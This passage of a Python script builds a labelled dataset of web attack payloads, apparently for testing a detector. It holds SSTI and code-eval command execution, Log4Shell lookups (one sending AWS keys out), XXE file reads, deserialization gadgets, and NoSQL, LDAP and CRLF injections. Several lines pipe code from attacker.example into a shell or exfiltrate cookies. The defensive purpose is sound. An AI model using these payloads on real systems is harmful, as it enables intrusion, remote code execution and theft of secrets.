    ("ssti-jinjava-scriptengine", "{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}}"),
    ("ssti-groovy-gstring", "${\"id\".execute().text}"),
    ("eval-python-import", "__import__('os').system('id')"),
    ("eval-python-compile", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("eval-php-system", "system('id');"),
    ("eval-php-string-concat", "Nash'.system('id').'"),
    ("eval-node-child-process", "require('child_process').exec('curl attacker.example/n|sh')"),
    ("eval-node-string-breakout", "'+process.mainModule.require('child_process').execSync('id')+'"),
    ("log4shell-ldap", "${jndi:ldap://attacker.example:1389/a}"),
    ("log4shell-lower-lookup", "Logbook 1887 ${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
    ("log4shell-default-value", "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.7/o}"),
    ("log4shell-dns-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a}"),
    ("log4shell-env-nan", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}"),
    ("log4shell-localhost-bypass", "${jndi:ldap://127.0.0.1#attacker.example:1389/a}"),
    ("log4shell-upper-date", "${${upper:j}${date:'n'}di:ldaps://attacker.example/q}"),
    ("proto-pollution-json", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("proto-pollution-constructor", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("proto-pollution-ejs-gadget", "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("csv-dde-cmd", "=cmd|' /C calc'!A0"),
    ("csv-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/?d=\"&A1&B1,\"Click for your receipt\")"),
    ("csv-plus-dde-powershell", "+SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-minus-dde", "-2+3+cmd|' /C calc'!'A0'"),
    ("csv-at-dde", "@SUM(1+9)*cmd|' /C notepad'!A0"),
    ("csv-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A2:E2),\"//a\")"),
    ("csv-webservice", "=WEBSERVICE(\"https://attacker.example/?\"&A1)"),
    ("xxe-file-entity", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
    ("xxe-parameter-oob", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><r/>"),
    ("xinclude-text", "<entry xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></entry>"),
    ("xxe-svg-upload", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"20\">&h;</text></svg>"),
    ("xxe-billion-laughs", "<!DOCTYPE l [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><l>&d;</l>"),
    ("xxe-php-expect", "<!DOCTYPE r [<!ENTITY x SYSTEM \"expect://id\">]><r>&x;</r>"),
    ("xxe-ssrf-imds", "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><logbook>&x;</logbook>"),
    ("yaml-python-apply", "!!python/object/apply:os.system ['id']"),
    ("yaml-python-new-subprocess", "!!python/object/new:subprocess.check_output [['id']]"),
    ("yaml-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("pickle-protocol0-system", "cos\nsystem\n(S'id'\ntR."),
    ("java-jackson-jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/Exploit\",\"autoCommit\":true}]"),
    ("java-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://198.51.100.9:1099/x\",\"autoCommit\":true}"),
    ("dotnet-jsonnet-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("php-unserialize-object", "O:9:\"ScanCache\":1:{s:4:\"path\";s:19:\"/var/www/html/x.php\";}"),
    ("php-phar-wrapper", "phar:///var/www/uploads/receipt.jpg/x"),
]

# ---------------------------------------------------------------- nosqli
NOSQLI = [
    ("json-ne-null", "{\"$ne\": null}"),
    ("json-gt-empty", "{\"$gt\": \"\"}"),
    ("query-bracket-ne", "password[$ne]=lighthouse"),
    ("json-regex-prefix", "{\"$regex\": \"^a\"}"),
    ("json-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where-string-breakout", "Owen'; return true; var x='"),
    ("where-or-tautology", "keeper' || '1'=='1"),
    ("json-where-regex-exfil", "{\"$where\":\"this.password.match(/^a/)\"}"),
    ("where-infinite-loop", "1; while(true){}"),
    ("json-expr-true", "{\"$expr\":{\"$eq\":[1,1]}}"),
    ("json-or-empty", "{\"$or\":[{},{\"a\":\"a\"}]}"),
    ("json-nin-empty", "{\"$nin\":[]}"),
    ("json-exists", "{\"$exists\":true}"),
    ("query-bracket-regex-pair", "username[$regex]=.*&password[$regex]=.*"),
    ("where-drop-database", "\"; db.dropDatabase(); var a=\""),
    ("where-process-exit", "this.constructor.constructor('return process')().exit()"),
    ("query-bracket-gt", "donor[$gt]="),
    ("json-regex-options", "{\"$regex\":\".*\",\"$options\":\"si\"}"),
    ("json-where-function", "{\"$where\":\"function(){return this.role=='admin'}\"}"),
    ("aggregate-lookup", "[{\"$lookup\":{\"from\":\"volunteers\",\"localField\":\"x\",\"foreignField\":\"x\",\"as\":\"v\"}}]"),
    ("couchdb-mango-selector", "{\"selector\":{\"_id\":{\"$gt\":null}}}"),
    ("query-bracket-where", "q[$where]=sleep(3000)"),
    ("json-elemmatch", "{\"roles\":{\"$elemMatch\":{\"$ne\":\"visitor\"}}}"),
    ("where-keys-exfil", "'; return Object.keys(this).join(',')=='' || true; var z='"),
    ("json-not-regex", "{\"$not\":{\"$regex\":\"^$\"}}"),
]

# ------------------------------------------------------------------ crlf
CRLF = [
    ("log-forging-login", "Owen\r\n2024-05-01 10:00:00 INFO admin login succeeded user=admin"),
    ("header-set-cookie-urlenc", "%0d%0aSet-Cookie:%20session=attacker"),
    ("header-set-cookie-raw", "en-GB\r\nSet-Cookie: sid=deadbeef; Path=/"),
    ("response-splitting-urlenc", "%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK%0D%0AContent-Type:%20text/html%0D%0A%0D%0A<script>alert(1)</script>"),
    ("redirect-location-inject", "/tours?date=2024-06-01%0d%0aLocation:%20https://attacker.example/"),
    ("mail-bcc-raw", "keeper@example.org\r\nBcc: list@attacker.example"),
    ("mail-cc-urlenc", "keeper@example.org%0ACc:%20spam@attacker.example"),
    ("mail-subject-body", "Your receipt\nContent-Type: text/html\n\n<a href=https://attacker.example/verify>Verify your donation</a>"),
    ("unicode-crlf-urlenc", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("unicode-crlf-raw", "Storm report\u560a\u560dLocation: https://attacker.example/"),
    ("log-ansi-escape", "Margaret\x1b[2J\x1b[1;31mFATAL: database wiped\x1b[0m"),
    ("header-xff-lf", "WO-2291%0aX-Forwarded-For: 127.0.0.1"),
    ("header-x-accel-redirect", "report.pdf%0d%0aX-Accel-Redirect: /internal/admin/export"),
    ("log-forging-lf-only", "Fog demo done\n[2024-06-01 12:01:00] WARN payment refunded to acct 9912 by admin"),
    ("log-forging-urlenc", "HLT-7781%0a2024-06-01T09:00:00Z INFO booking cancelled by=admin refund=all"),
    ("mail-to-injection", "Dev <dev@example.org>\r\nTo: victims@attacker.example"),
    ("mail-reply-to", "donor@example.org\nReply-To: billing@attacker.example"),
    ("header-content-type-swap", "en%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<h1>Site moved</h1>"),
    ("double-urlenc-crlf", "%250d%250aSet-Cookie:%2520sid=attacker"),
    ("log-forging-json-line", "Aoife\n{\"level\":\"info\",\"msg\":\"role changed\",\"user\":\"aoife\",\"role\":\"admin\"}"),
    ("header-access-control", "%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example%0d%0aAccess-Control-Allow-Credentials:%20true"),
    ("response-splitting-raw", "fog\r\nContent-Length: 0\r\n\r\nHTTP/1.1 302 Found\r\nLocation: https://attacker.example/\r\n\r\n"),
    ("log-forging-syslog", "volunteer\n<34>Jun  1 12:00:00 lighthouse sshd[1]: Accepted password for root from 10.0.0.2"),
    ("mail-bcc-urlenc-crlf", "m.oconnor@example.ie%0d%0abcc:%20harvest@attacker.example"),
    ("header-cache-poison", "%0d%0aCache-Control:%20public,%20max-age=31536000%0d%0aX-Injected:%201"),
    ("smtp-data-smuggle", "Thanks!\r\n.\r\nMAIL FROM:<board@example.org>\r\nRCPT TO:<all@attacker.example>\r\nDATA\r\nFake notice\r\n."),
    ("header-refresh", "%0d%0aRefresh:%200;url=https://attacker.example/"),
    ("log-forging-csv-row", "Owen\r\n2024-06-01,admin,delete_all,ok"),
]

# ------------------------------------------------------------ ldap-xpath
LDAP_XPATH = [
    ("ldap-uid-wildcard-or", "*)(uid=*))(|(uid=*"),
    ("ldap-and-true", "admin)(&)"),
    ("ldap-objectclass", "*)(|(objectClass=*)"),
    ("ldap-password-prefix", "keeper*)(userPassword=a*"),
    ("ldap-memberof-admins", "Owen)(|(memberOf=cn=admins,ou=groups,dc=lighthouse,dc=org)"),
    ("ldap-urlencoded", "%2a%29%28uid%3d%2a%29%29%28%7c%28uid%3d%2a"),
    ("ldap-mail-enum", "*)(mail=*@lighthouse.org"),
    ("ldap-description-leak", "x)(|(description=*password*)"),
    ("xpath-string-tautology", "' or '1'='1"),
    ("xpath-or-chain", "' or 1=1 or ''='"),
    ("xpath-name-probe", "x' or name()='username' or 'x'='y"),
    ("xpath-union-password", "'] | //user/password | //*['"),
    ("xpath-string-length", "' and string-length(//user[1]/password)>5 and '1'='1"),
    ("xpath-number-tautology", "1 or 1=1"),
    ("xpath-substring-blind", "' or substring(//user[position()=1]/pass,1,1)='a"),
    ("xpath2-doc-oob", "' or doc('http://attacker.example/x')/a or '"),
    ("xpath-paren-tautology", "') or ('1'='1"),
    ("xpath-catalog-breakout", "LH/ARC/3/12/7'] | //donor/* | //entry['"),
]

# ---------------------------------------------- templates (computed values)
# One hand-written payload + one encoding, or one hand-written prefix + one
# hand-written payload. Nothing else is computed.


def url_all(s):
    return "".join("%%%02X" % b if not (chr(b).isalnum()) else chr(b) for b in s.encode("utf-8"))


def url_double(s):
    return url_all(s).replace("%", "%25")


def html_hex_entities(s):
    return "".join("&#x%x;" % ord(c) for c in s)


def js_unicode(s):
    return "".join("\\u%04x" % ord(c) if not c.isalnum() else c for c in s)


ENCODERS = {"+urlencode": url_all, "+double-urlencode": url_double,
            "+html-entities": html_hex_entities, "+js-unicode-escape": js_unicode}

ENCODED = [
    ("sqli", "note-union-select", "+urlencode", "Moffat' UNION SELECT login,pass FROM staff-- "),
    ("sqli", "plain-boolean", "+double-urlencode", "1' OR 1=1-- "),
    ("sqli", "booking-mysql-sleep", "+urlencode", "HLT-1' AND SLEEP(6)#"),
    ("xss", "comment-script", "+urlencode", "<script>alert(document.cookie)</script>"),
    ("xss", "plain-svg-onload", "+double-urlencode", "<svg onload=alert(1)>"),
    ("xss", "href-javascript", "+html-entities", "javascript:alert(1)"),
    ("xss", "dom-innerhtml-img", "+js-unicode-escape", "<img src=x onerror=alert(1)>"),
    ("cmdi", "filename-semicolon-cat", "+urlencode", "scan.tif; cat /etc/passwd"),
    ("cmdi", "filename-and-curl", "+double-urlencode", "x && curl attacker.example/s|sh"),
    ("traversal", "plain-dotdot-passwd", "+double-urlencode", "../../../etc/passwd"),
    ("traversal", "windows-backslash-winini", "+urlencode", "..\\..\\..\\windows\\win.ini"),
    ("ssrf", "aws-imds", "+urlencode", "http://169.254.169.254/latest/meta-data/"),
    ("code", "ssti-jinja2-cycler", "+urlencode", "{{cycler.__init__.__globals__.os.popen('id').read()}}"),
    ("code", "log4shell-ldap", "+urlencode", "${jndi:ldap://attacker.example/a}"),
    ("code", "log4shell-ldap", "+double-urlencode", "${jndi:rmi://198.51.100.7:1099/x}"),
    ("nosqli", "where-or-tautology", "+urlencode", "keeper' || '1'=='1"),
    ("ldap-xpath", "ldap-objectclass", "+double-urlencode", "*)(|(objectClass=*)"),
    ("crlf", "header-set-cookie", "+urlencode", "\r\nSet-Cookie: sid=attacker"),
]

THEME_PREFIXES = [
    "Logbook p.57 transcription: ",
    "WO-LM-2291 note — ",
    "Booking HLT-7781 special request: ",
    "LH/ARC/3/12/8 description: ",
    "Storm Eunice damage: ",
    "Fog demo Sat 12:00 — ",
    "Rota swap Tue↔Thu, ",
    "Donation note (Gift Aid yes): ",
]

THEMED = [
    ("sqli", "prefixed-mssql-waitfor", "'; WAITFOR DELAY '0:0:7'--"),
    ("sqli", "prefixed-pg-sleep", "' AND 1=(SELECT 1 FROM pg_sleep(6))--"),
    ("sqli", "prefixed-union-select", "' UNION SELECT email,phone FROM donors-- -"),
    ("xss", "prefixed-img-onerror", "<img src=x onerror=alert(document.domain)>"),
    ("xss", "prefixed-svg-fetch", "<svg onload=fetch('//attacker.example/'+document.cookie)>"),
    ("xss", "prefixed-details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("cmdi", "prefixed-subshell-curl", "$(curl -s http://attacker.example/r|sh)"),
    ("cmdi", "prefixed-backtick-id", "`id`"),
    ("code", "prefixed-log4shell", "${jndi:ldap://attacker.example:1389/lh}"),
    ("code", "prefixed-ssti-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}"),
    ("code", "prefixed-ssti-jinja2", "{{ lipsum.__globals__.os.popen('id').read() }}"),
    ("nosqli", "prefixed-where-breakout", "'; return true; var q='"),
    ("crlf", "prefixed-log-forging", "\r\n2024-06-01 09:00:00 INFO user=admin action=export status=ok"),
    ("ldap-xpath", "prefixed-ldap-or", "*)(|(uid=*"),
]

LITERALS = [("sqli", SQLI), ("xss", XSS), ("cmdi", CMDI), ("traversal", TRAVERSAL),
            ("ssrf", SSRF), ("code", CODE), ("nosqli", NOSQLI), ("crlf", CRLF),
            ("ldap-xpath", LDAP_XPATH)]
ORDER = [c for c, _ in LITERALS]


def build():
    per_cat = {c: [] for c in ORDER}
    n_literal = 0
    for cat, items in LITERALS:
        for cls, value in items:
            per_cat[cat].append((cls, value))
            n_literal += 1
    n_computed = 0
    for cat, cls, enc, raw in ENCODED:
        per_cat[cat].append((cls + enc, ENCODERS[enc](raw)))
        n_computed += 1
    for cat, cls, payload in THEMED:
        per_cat[cat].append((cls, rng.choice(THEME_PREFIXES) + payload))
        n_computed += 1
    rows = []
    n = 0
    seen = set()
    for cat in ORDER:
        for cls, value in per_cat[cat]:
            assert value and value not in seen, (cat, cls, value)
            seen.add(value)
            n += 1
            rows.append({"id": "%s-%05d" % (PREFIX, n), "category": cat, "class": cls,
                         "label": "attack", "value": value})
    return rows, n_literal, n_computed


def main():
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.jsonl")
    rows, n_literal, n_computed = build()
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for row in rows:
            f.write(json.dumps(row, ensure_ascii=False) + "\n")
    print("wrote %d rows (%d literal, %d computed, %.1f%% literal) to %s"
          % (len(rows), n_literal, n_computed, 100.0 * n_literal / len(rows), out))


if __name__ == "__main__":
    main()
